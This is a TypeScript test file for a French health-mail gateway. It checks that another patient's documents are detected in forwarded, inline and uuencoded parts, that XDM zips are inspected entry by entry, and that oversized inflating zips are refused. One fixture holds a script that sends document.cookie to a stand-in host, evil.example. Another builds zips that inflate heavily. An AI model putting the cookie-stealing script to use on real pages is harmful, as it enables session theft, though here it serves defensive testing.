/**
 * No way round a document check, through the running server's submission door: a document is
 * checked wherever it sits in the message (a forwarded message, an inline text part, a
 * uuencoded part), an XDM is checked entry by entry, and a message whose zips would cost too
 * much to check is refused at once rather than inflated.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DOC_ROOT,
  OTHER_INS,
  buildCda,
  buildDetachedSignature,
  buildPdf,
  buildXdm,
  uuencode,
  type CdaSpec,
} from '../../fixtures/builders.js';
import { compose } from '../../src/pipeline/submit.js';
import { mssgw } from '../helpers/cli.js';
import { COLLEAGUE, DOCTOR, INS, citizen, startWorld, trySend, type World } from '../helpers/world.js';

const JEANNE = citizen(INS.jeanne); // the builders' main patient
/** A document about Paul, the builders' other patient. */
const PAUL_CDA: CdaSpec = { ins: OTHER_INS, id: { root: DOC_ROOT, extension: 'PAUL-1' } };

let world: World;
let xdmOfPaul: Buffer;
beforeAll(async () => {
  xdmOfPaul = await buildXdm({ documents: [{ cda: PAUL_CDA }] });
  world = await startWorld();
});
afterAll(async () => {
  await world?.stop();
});

function send(to: string, mail: Record<string, unknown>) {
  return trySend(world.submission(), { from: DOCTOR, to, subject: 'Documents', text: 'Veuillez trouver les documents.', ...mail });
}

/** A message written by hand (what no mail library writes for us), sent as it is. */
function sendRaw(to: string, contentType: string, encoding: string, body: string) {
  const raw =
    `From: ${DOCTOR}\r\nTo: ${to}\r\nSubject: Documents\r\nMIME-Version: 1.0\r\n` +
    'Content-Type: multipart/mixed; boundary="sep"\r\n\r\n' +
    '--sep\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nVeuillez trouver le dossier.\r\n' +
    `--sep\r\nContent-Type: ${contentType}\r\nContent-Transfer-Encoding: ${encoding}\r\n\r\n${body}\r\n--sep--\r\n`;
  return trySend(world.submission(), { envelope: { from: DOCTOR, to: [to] }, raw });
}

async function messageBytes(mail: Parameters<typeof compose>[0]): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of compose(mail)) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

async function recordOf(ins: string): Promise<{ title: string }[]> {
  const result = await mssgw(world.box, ['record', 'list', ins, '--json']);
  expect(result.code).toBe(0);
  return JSON.parse(result.stdout) as { title: string }[];
}

describe("another patient's document is seen wherever it sits", () => {
  it('in a forwarded message attached to the message', async () => {
    // The forwarded message as a mail client writes it, attached as a file (Thunderbird's "forward as attachment").
    const forwarded = await messageBytes({ from: 'dr.who@ch-lyon.mssante.fr', to: DOCTOR, subject: 'Résultats Paul', text: 'Ci-joint', attachments: [{ filename: 'IHE_XDM.ZIP', content: xdmOfPaul }] });
    const result = await send(JEANNE, { attachments: [{ filename: 'Fwd.eml', contentType: 'message/rfc822', contentDisposition: 'attachment', content: forwarded }] });
    expect(result.ok).toBe(false);
    expect(result.response).toMatch(/^554 5\.6\.0 /);
    expect(result.response).toContain('IHE_XDM.ZIP (in forwarded message "Fwd.eml")');
    expect(result.response).toContain('[RECIPIENT_PATIENT]');
    expect(result.response).not.toContain(OTHER_INS);
  });

  it('in an inline text/plain part', async () => {
    const result = await send(JEANNE, { attachments: [{ content: buildCda(PAUL_CDA), contentType: 'text/plain', contentDisposition: 'inline' }] });
    expect(result.response).toMatch(/^554 5\.6\.0 .*\[RECIPIENT_PATIENT\]/);
  });

  it('in an x-uuencode part, and a part whose encoding cannot be undone is refused', async () => {
    const uue = await sendRaw(JEANNE, 'application/zip; name="IHE_XDM.ZIP"', 'x-uuencode', uuencode(xdmOfPaul, 'IHE_XDM.ZIP'));
    expect(uue.response).toMatch(/^554 5\.6\.0 .*IHE_XDM\.ZIP: entry "IHE_XDM\/SUBSET01\/DOC0001\.XML".*\[RECIPIENT_PATIENT\]/);
    const unknown = await sendRaw(JEANNE, 'application/zip', 'x-gzip64', 'H4sIAAAAAAAAA0vOz0nVS87PBQA=');
    expect(unknown.response).toMatch(/^554 5\.6\.0 .*"x-gzip64" is not one the gateway can decode, so it cannot be checked \[MIME_ENCODING\]/);
  });

  it('files nothing of it', async () => {
    expect(await recordOf(INS.jeanne)).toEqual([]);
  });
});

describe('an XDM is checked entry by entry', () => {
  it('refuses for a citizen a web page beside valid documents, naming the entry; a professional receives it', async () => {
    const xdm = await buildXdm({ extra: [{ name: 'evil.html', content: Buffer.from('<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>') }] });
    const toCitizen = await send(JEANNE, { attachments: [{ filename: 'IHE_XDM.ZIP', content: xdm }] });
    expect(toCitizen.response).toMatch(/^554 5\.6\.0 Pièce jointe refusée : ce format n'est pas autorisé pour un usager/);
    expect(toCitizen.response).toContain('IHE_XDM.ZIP: entry "evil.html": a file of the XDM that METADATA.XML does not list is HTML');
    expect(toCitizen.response).toContain('[XDM_ENTRY_FORMAT]');
    expect((await send(COLLEAGUE, { attachments: [{ filename: 'IHE_XDM.ZIP', content: xdm }] })).ok).toBe(true);
  });

  it('accepts a CDA with a listed PDF and the set’s signature, found by a URI from IHE_XDM/, and files the CDA', async () => {
    const cda = buildCda({ title: 'Ordonnance du 15 janvier' });
    const xdm = await buildXdm({
      documents: [
        { content: cda, cda: { title: 'Ordonnance du 15 janvier' }, metadata: { uri: 'SUBSET01/DOC0001.XML' } },
        { content: buildPdf({ lines: ['Ordonnance'] }), file: 'DOC0002.PDF', metadata: { mimeType: 'application/pdf' } },
        { content: buildDetachedSignature([{ uniqueId: `${DOC_ROOT}^DOC-2024-0001`, content: cda }]), file: 'SIGN0001.XML' },
      ],
    });
    const result = await send(JEANNE, { attachments: [{ filename: 'IHE_XDM.ZIP', content: xdm }] });
    expect(result.response).toMatch(/^250 /);
    expect((await recordOf(INS.jeanne)).map((d) => d.title)).toEqual(['Ordonnance du 15 janvier']);
  });
});

describe('what one message may cost to check', () => {
  it('refuses zips that together would inflate too much, at once, with 552 5.3.4 and the reason', async () => {
    // Each XDM is valid and within every per-zip bound (40 MB inflated from ~50 kB); four add up to 160 MB.
    const padded = await buildXdm({ extra: Array.from({ length: 40 }, (_, i) => ({ name: `IHE_XDM/SUBSET01/PAD${i}.TXT`, content: Buffer.alloc(1024 * 1024, 0x20) })) });
    const result = await send(COLLEAGUE, { attachments: [0, 1, 2, 3].map((i) => ({ filename: `xdm${i}.zip`, content: padded })) });
    expect(result.response).toMatch(/^552 5\.3\.4 Message trop volumineux/);
    expect(result.response).toContain('xdm2.zip: entry "IHE_XDM/SUBSET01/PAD');
    expect(result.response).toContain('the zips of this message inflate to more than the 100 MB allowed in one message [MESSAGE_INFLATED_BYTES]');
    // The third zip is refused from its directory: the fourth is never read.
  });
});
